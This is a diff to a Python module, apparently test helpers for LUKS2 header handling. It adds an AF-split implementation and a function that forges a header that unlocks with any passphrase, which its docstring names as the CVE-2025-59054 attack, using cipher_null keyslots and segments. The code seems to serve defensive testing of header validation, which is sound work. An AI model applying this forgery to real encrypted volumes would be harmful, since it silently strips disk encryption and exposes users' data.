@@ -6,7 +6,10 @@ variants that cryptsetup itself would still load.
 
 from __future__ import annotations
 
+import base64
+import hashlib
 import json
+import os
 import struct
 from collections.abc import Callable
 from typing import Any
@@ -69,3 +72,54 @@ def with_binary_field(raw: bytes, copy: str, offset: int, value: bytes, seal: bo
 
 def with_sequence_id(raw: bytes, copy: str, sequence_id: int) -> bytes:
     return with_binary_field(raw, copy, 16, struct.pack(">Q", sequence_id))
+
+
+def _diffuse(block: bytes) -> bytes:
+    """LUKS anti-forensic diffusion with SHA-256 (cryptsetup lib/luks1/af.c)."""
+    size = hashlib.sha256().digest_size
+    out = bytearray()
+    for index in range(0, (len(block) + size - 1) // size):
+        chunk = block[index * size : (index + 1) * size]
+        out += hashlib.sha256(struct.pack(">I", index) + chunk).digest()[: len(chunk)]
+    return bytes(out)
+
+
+def af_split(key: bytes, stripes: int) -> bytes:
+    stripes_out = []
+    state = bytes(len(key))
+    for _ in range(stripes - 1):
+        stripe = os.urandom(len(key))
+        stripes_out.append(stripe)
+        state = _diffuse(bytes(a ^ b for a, b in zip(state, stripe, strict=True)))
+    stripes_out.append(bytes(a ^ b for a, b in zip(state, key, strict=True)))
+    return b"".join(stripes_out)
+
+
+def any_passphrase_header(raw: bytes) -> bytes:
+    """The attack of CVE-2025-59054: a header that "unlocks" with every passphrase.
+
+    The keyslot area is "encrypted" with cipher_null, so it holds the AF-split volume key in
+    the clear, and the digest is made to match that key; the data segment is cipher_null
+    too, so the guest would write its data in plaintext. Returns metadata plus keyslots area
+    (bytes [0, data offset)), ready to be written over a device's header.
+    """
+    volume_key = os.urandom(32)
+    salt = os.urandom(32)
+    metadata = json_of(raw)
+    keyslot = metadata["keyslots"]["0"]
+    keyslot["key_size"] = len(volume_key)
+    keyslot["area"]["encryption"] = "cipher_null-ecb"
+    keyslot["area"]["key_size"] = 32
+    keyslot["area"]["size"] = str(-(-len(volume_key) * keyslot["af"]["stripes"] // 4096) * 4096)
+    metadata["segments"]["0"]["encryption"] = "cipher_null-ecb"
+    digest = metadata["digests"]["0"]
+    digest["salt"] = base64.b64encode(salt).decode()
+    digest["iterations"] = 1000
+    digest["digest"] = base64.b64encode(
+        hashlib.pbkdf2_hmac("sha256", volume_key, salt, 1000, 32)
+    ).decode()
+    forged = bytearray(with_json_text(raw, json.dumps(metadata).encode()))
+    area_offset = int(keyslot["area"]["offset"])
+    material = af_split(volume_key, keyslot["af"]["stripes"])
+    forged[area_offset : area_offset + len(material)] = material
+    return bytes(forged)
